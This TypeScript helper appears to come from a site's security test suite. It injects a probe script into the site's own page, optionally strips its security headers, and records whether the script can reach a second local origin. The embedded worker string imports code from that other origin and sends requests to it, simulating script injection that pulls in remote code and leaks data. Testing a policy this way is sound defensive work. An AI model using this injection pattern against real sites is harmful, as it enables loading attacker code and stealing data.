import { setTimeout as sleep } from 'node:timers/promises';
import { startFaultServer } from './fault-server.ts';
import { type Arrived, type SecondOrigin, startSecondOrigin } from './second-origin.ts';

/** Where the page's policy stands. */
export type Placed = 'header' | 'meta' | 'both' | 'none';

/** Shows an address in a browser; what it gives takes it away again. Any engine will do. */
export type OpenAt = (url: string) => Promise<() => Promise<unknown>>;

/** What a foreign program in one of our pages told, a list each time, and what arrived at another origin meanwhile. */
export type Told = { told: string[][]; arrived: Arrived };

/** A page like any other. */
const PATH = '/en/k7/';
const SAID = '/said?';
const MOST_MS = 30_000;
/** What arrives later than this after the last attempt is missed. */
const SETTLE_MS = 800;

/** The headers of ours; a host that lets nobody set any sends none of them. */
const OURS = [
  'content-security-policy',
  'cross-origin-embedder-policy',
  'cross-origin-opener-policy',
  'cross-origin-resource-policy',
  'permissions-policy',
  'referrer-policy',
  'strict-transport-security',
  'x-content-type-options',
  'x-dns-prefetch-control',
];

type Attack = {
  site: string;
  placed: Placed;
  open: OpenAt;
  /** The program; `say(...)` tells us something. */
  script: (second: SecondOrigin) => string;
  isOver: (so: Told) => boolean;
};

/**
 * Shows the real page of `site` with one more script of its own origin in it, its policy placed as told. No debugger evaluates anything:
 * what one evaluates is not held to the policy. What is told comes back as requests to the page's own origin, so that any engine can be asked.
 */
export async function attackPage({ site, placed, open, script, isOver }: Attack): Promise<Told> {
  const html = withProbe(await (await fetch(`${site}${PATH}`)).text(), placed);
  const without = placed === 'meta' || placed === 'none' ? OURS : [];
  const server = await startFaultServer(site);
  const second = await startSecondOrigin();
  const told: string[][] = [];
  const so = { told, arrived: second.arrived };
  const program = `{ const say = (...what) => fetch('${SAID}' + encodeURIComponent(JSON.stringify(what)), { keepalive: true }).catch(() => undefined);
    ${script(second)} }`;
  server.script(({ path }) => {
    const js = (body: string) => ({ kind: 'replace', type: 'text/javascript', body, without }) as const;
    if (path.startsWith(SAID)) told.push(JSON.parse(decodeURIComponent(path.slice(SAID.length))) as string[]);
    if (path === PATH) return { kind: 'replace', type: 'text/html', body: html, without };
    if (path === '/probe.js') return js(program);
    if (path.startsWith('/probe-worker.js')) return js(WORKER);
    return path.startsWith(SAID) ? js('') : undefined;
  });
  try {
    const close = await open(`${server.url}${PATH}`);
    for (const end = Date.now() + MOST_MS; Date.now() < end && !isOver(so); ) await sleep(50);
    await sleep(SETTLE_MS);
    await close();
    return so;
  } finally {
    await server.close();
    await second.close();
  }
}

/** What a worker would do that somebody else starts: its address ends in that of the other origin. */
const WORKER = `const to = location.search.slice(1);
  try { importScripts(to + '/imported.js'); } catch {}
  fetch(to + '/worker').catch(() => undefined);`;

function withProbe(html: string, placed: Placed): string {
  const isInPage = placed === 'meta' || placed === 'both';
  const kept = isInPage ? html : html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
  const told = placed === 'none' ? kept.replace('<meta name="referrer" content="no-referrer">', '') : kept;
  return told.replace('</body>', '<script src="/probe.js"></script></body>');
}
